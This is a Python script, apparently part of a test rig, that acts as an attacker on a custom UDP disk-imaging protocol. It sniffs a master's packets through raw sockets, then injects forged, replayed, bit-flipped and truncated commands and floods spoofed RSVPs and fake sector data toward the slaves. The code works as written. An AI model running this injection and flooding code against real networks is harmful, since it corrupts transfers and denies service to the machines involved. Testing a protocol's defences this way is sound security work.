"""Whoever can send in the network and does not have the secret: attacker.py HOW SESSION_FILE REPORT AMOUNT HOSTS.

It stands in the bridge, hears what passes the master's port and sends frames in the name of whom it likes, straight to the port of the machine that they
are for. HOW is one of:
  listen    until a session has ended: what was heard goes to SESSION_FILE, one datagram a line
  attack    AMOUNT datagrams of each of the eleven commands, in turns of these kinds:
    forged     a header that looks right, and noise
    clear      the command as an open session has it, with a checksum that holds
    replayed   what was heard a while ago, in any order
    flipped    what was heard, with one to three flipped bits
    cut        what was heard, shorter or longer
    older      what was heard in the session of SESSION_FILE, as it was or in the name of this one
  flood     for AMOUNT seconds RSVPs of slaves that do not exist, each from another address
  data      until the master says Done: AMOUNT datagrams of forged Sector Data in a second, to each slave

Commands that were not heard yet are forged only. REPORT gets what was sent, as JSON. HOSTS: the hosts of the slaves, "s1,s2".
"""

import json
import random
import socket
import struct
import sys
import time
from pathlib import Path

MAGIC = b"IM"
COMMANDS = {
    1: "drive-geometry",
    2: "rsvp",
    3: "confirm-download",
    4: "sector-data",
    5: "sector-data-and-flush",
    6: "skip-track",
    7: "resend-request",
    8: "end-of-data",
    9: "done",
    10: "disconnect",
    11: "disconnect-acknowledge",
}
OF_SLAVES = (2, 7, 10)
TO_ONE = (3, 11)
KINDS = ("forged", "clear", "replayed", "flipped", "cut", "older")
_MARK = 0x6A6B  # identification of the packets that it sends itself
_KEPT = 400  # of each command
_ALL = 0x0003
_FORCED_BUFFER = 33  # SO_RCVBUFFORCE
_BURST = 64
_TABLE = []
for _index in range(256):
    _crc = _index
    for _ in range(8):
        _crc = _crc >> 1 ^ (0x82F63B78 if _crc & 1 else 0)
    _TABLE.append(_crc)


def crc32c(data: bytes) -> bytes:
    crc = 0xFFFFFFFF
    for byte in data:
        crc = crc >> 8 ^ _TABLE[(crc ^ byte) & 0xFF]
    return (crc ^ 0xFFFFFFFF).to_bytes(4, "big")


class Heard:
    """A datagram and the head of the packet that it came in."""

    def __init__(self, frame: bytes):
        self.ethernet, self.addresses, self.ports = frame[:12], frame[26:34], frame[34:38]
        self.datagram = frame[42:]

    @property
    def command(self) -> int:
        return self.datagram[3]

    @property
    def session(self) -> bytes:
        return self.datagram[4:8]

    def framed(self, datagram: bytes) -> bytes:
        """Another datagram from and to where this one went, with no checksum of UDP."""
        header = bytearray(struct.pack(">BBHHHBBH", 0x45, 0, 28 + len(datagram), _MARK, 0x4000, 1, 17, 0) + self.addresses)
        total = sum(struct.unpack(">10H", header))
        total = (total & 0xFFFF) + (total >> 16)
        header[10:12] = (~((total & 0xFFFF) + (total >> 16)) & 0xFFFF).to_bytes(2, "big")
        return self.ethernet + b"\x08\x00" + bytes(header) + self.ports + struct.pack(">HH", 8 + len(datagram), 0) + datagram


def is_of_ours(frame: bytes) -> bool:
    return (
        len(frame) >= 58
        and frame[12:15] == b"\x08\x00\x45"
        and frame[23] == 17
        and frame[18:20] != _MARK.to_bytes(2, "big")
        and frame[42:44] == MAGIC
        and 1 <= frame[45] <= 11
    )


class Attacker:
    def __init__(self, earlier: list, drawn: random.Random, hosts: list):
        self._drawn, self._earlier = drawn, earlier
        self._ears = self._port("pm")
        self._mouths = {"m": self._ears, **{host: self._port(f"p{host}") for host in hosts}}
        self._heard = {command: [] for command in COMMANDS}
        self._clear = {}
        self._ways = {}
        self.sent = {name: {kind: 0 for kind in KINDS} for name in COMMANDS.values()}

    @staticmethod
    def _port(name: str) -> socket.socket:
        port = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ALL))
        port.setsockopt(socket.SOL_SOCKET, _FORCED_BUFFER, 16 << 20)
        port.bind((name, 0))
        port.setblocking(False)
        return port

    def listen(self) -> None:
        """Until a session that was heard has fallen silent."""
        last = time.monotonic()
        while not self._ways or time.monotonic() - last < 1.5:
            last = time.monotonic() if self._listen() else last
            time.sleep(0.002)

    def attack(self, each: int) -> None:
        """Listens for a moment, then sends all, some of each command in turns."""
        until = time.monotonic() + 0.5
        while time.monotonic() < until or not self._is_ready():
            self._listen()
            time.sleep(0.01)
        self._clear = {command: [self._in_clear(command) for _ in range(60)] for command in COMMANDS}
        for burst in range(0, each, _BURST):
            self._listen()
            for command, name in COMMANDS.items():
                for _ in range(min(_BURST, each - burst)):
                    self._send(command, name)

    def heard(self) -> list:
        self._listen()
        return [each.datagram for kept in self._heard.values() for each in kept]

    def _is_ready(self) -> bool:
        return 1 in self._ways and 4 in self._ways and 7 in self._ways

    def _listen(self) -> int:
        """Returns how many datagrams of a session came."""
        count = 0
        for _ in range(300):
            try:
                frame = self._ears.recv(2048)
            except BlockingIOError:
                return count
            if is_of_ours(frame):
                self._keep(Heard(frame))
                count += 1
        return count

    def _keep(self, heard: Heard) -> None:
        kept = self._heard[heard.command]
        if len(kept) < _KEPT:
            kept.append(heard)
        else:
            kept[self._drawn.randrange(_KEPT)] = heard
        self._ways[heard.command] = heard

    def _way(self, command: int) -> Heard:
        """How a command travels: as the last of its kind, or as one that goes from and to the same machines."""
        if command in self._ways:
            return self._ways[command]
        if command in OF_SLAVES:
            return self._ways[7]
        return self._ways[4] if command in (4, 5, 6, 8, 9) else self._ways.get(3, self._ways[4])

    def _send(self, command: int, name: str) -> None:
        kind = self._drawn.choice(KINDS)
        way = self._way(command)
        datagram = self._made(kind, command, way)
        if datagram is None:
            kind, datagram = "forged", self._noise(command, way)
        frame = way.framed(datagram[:1472])
        self.sent[name][kind] += 1
        for host, mouth in self._mouths.items():
            if (host == "m") == (command in OF_SLAVES):
                self._put(mouth, frame)

    @staticmethod
    def _put(mouth: socket.socket, frame: bytes) -> None:
        while True:
            try:
                mouth.send(frame)
                return
            except (BlockingIOError, OSError):
                time.sleep(0.0005)

    def _made(self, kind: str, command: int, way: Heard):
        """None when nothing was heard that it could be made of."""
        if kind == "forged":
            return self._noise(command, way)
        if kind == "clear":
            return self._drawn.choice(self._clear[command])
        if kind == "older":
            past = [each for each in self._earlier if each[3] == command]
            if not past:
                return None
            datagram = self._drawn.choice(past)
            return datagram if self._drawn.random() < 0.5 else datagram[:4] + way.session + datagram[8:]
        if not self._heard[command]:
            return None
        datagram = self._drawn.choice(self._heard[command]).datagram
        if kind == "replayed":
            return datagram
        if kind == "cut":
            longer = datagram + self._drawn.randbytes(40)
            return longer[: self._drawn.randrange(1, len(longer))]
        flipped = bytearray(datagram)
        for bit in self._drawn.sample(range(len(flipped) * 8), self._drawn.randint(1, 3)):
            flipped[bit // 8] ^= 1 << bit % 8
        return bytes(flipped)

    def _noise(self, command: int, way: Heard) -> bytes:
        """With the key's nibble, session and a number near those that are in use."""
        last = way.datagram
        nibble = last[2] if self._drawn.random() < 0.7 else 0x10 | self._drawn.randrange(16)
        number = (int.from_bytes(last[8:12], "big") + self._drawn.randint(-100, 2000)) & 0xFFFFFFFF
        length = len(last) - 12 if self._drawn.random() < 0.5 else self._drawn.randrange(400)
        index = self._drawn.randrange(4).to_bytes(2, "big") + bytes(2) if command in OF_SLAVES else b""
        return MAGIC + bytes([nibble, command]) + way.session + number.to_bytes(4, "big") + index + self._drawn.randbytes(length)

    def _in_clear(self, command: int) -> bytes:
        """As an open session has it: what would do most harm if it were believed, or noise."""
        some = self._drawn.randbytes
        body = {
            6: b"\0\1\0\0" + bytes(4) + b"\0\x10\0\0" + b"\2\0\0\0",  # all is zero
            8: b"\1\0\0\1" + bytes(16),
            9: self._drawn.choice((b"\1", b"\2", b"\3", b"\4", b"\5")) + bytes(3) + some(40) + bytes(4),
            7: b"\0\1\0\0" + some(8) + bytes(60),
            10: b"\0\1\0\0" + some(8) + bytes(80),
        }.get(command, some(self._drawn.choice((60, 200, 900))))
        session = self._ways[1].session
        datagram = MAGIC + bytes([0x10, command]) + session + some(4) + body
        return datagram + crc32c(datagram)

    # ---- a crowd that does not exist

    def flood_with_rsvps(self, seconds: float) -> None:
        """Sealed RSVPs of slaves that do not have the secret, each from another address, as fast as it can. Counts as forged."""
        while 1 not in self._ways:
            self._listen()
            time.sleep(0.01)
        hello = self._ways[1]
        to = hello.addresses[:4], hello.ports[:2]
        crowd = [self._rsvp(hello, *to) for _ in range(4000)]
        until = time.monotonic() + seconds
        while time.monotonic() < until:
            for frame in crowd:
                self._put(self._ears, frame)
            self.sent["rsvp"]["forged"] += len(crowd)

    def flood_with_data(self, a_second: int) -> None:
        """Sector Data of full length with numbers near those that are in use, until the master says Done."""
        while 4 not in self._ways:
            self._listen()
            time.sleep(0.01)
        begun, sent = time.monotonic(), 0
        while 9 not in self._ways:
            self._listen()
            way = self._ways[4]
            if sent < (time.monotonic() - begun) * a_second:
                frame = way.framed(self._forged_data(way))
                for host, mouth in self._mouths.items():
                    if host != "m":
                        self._put(mouth, frame)
                sent += 1
            else:
                time.sleep(0.0005)
        self.sent["sector-data"]["forged"] = sent

    def _forged_data(self, way: Heard) -> bytes:
        last = way.datagram
        number = (int.from_bytes(last[8:12], "big") + self._drawn.randint(1, 500)) & 0xFFFFFFFF
        return last[:8] + number.to_bytes(4, "big") + self._drawn.randbytes(len(last) - 12)

    def _rsvp(self, hello: Heard, address: bytes, port: bytes) -> bytes:
        some = self._drawn.randbytes
        datagram = MAGIC + b"\x10\x02" + hello.session + some(4) + some(8) + bytes(51) + b"\1" + bytes(16) + some(32) + some(90)
        datagram += crc32c(datagram)
        way = Heard(bytes(42) + datagram)
        way.ethernet = self._master_ethernet(hello) + some(6)
        way.addresses = b"\x0a\x4d\0" + bytes([self._drawn.randrange(20, 250)]) + address
        way.ports = self._drawn.randrange(1024, 65536).to_bytes(2, "big") + port
        frame = bytearray(way.framed(datagram))
        frame[6] &= 0xFE  # no group is a sender
        return bytes(frame)

    @staticmethod
    def _master_ethernet(hello: Heard) -> bytes:
        return hello.ethernet[6:12]


def main(how: str, session_file: str, report: str, amount: int, hosts: str) -> None:
    past = Path(session_file)
    earlier = [bytes.fromhex(line) for line in past.read_text().split()] if past.exists() else []
    attacker = Attacker(earlier, random.Random(amount), hosts.split(","))
    if how == "listen":
        attacker.listen()
        past.write_text("".join(datagram.hex() + "\n" for datagram in attacker.heard()))
    elif how == "attack":
        attacker.attack(amount)
    elif how == "data":
        attacker.flood_with_data(amount)
    else:
        attacker.flood_with_rsvps(amount)
    Path(report).write_text(json.dumps(attacker.sent))


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), sys.argv[5])
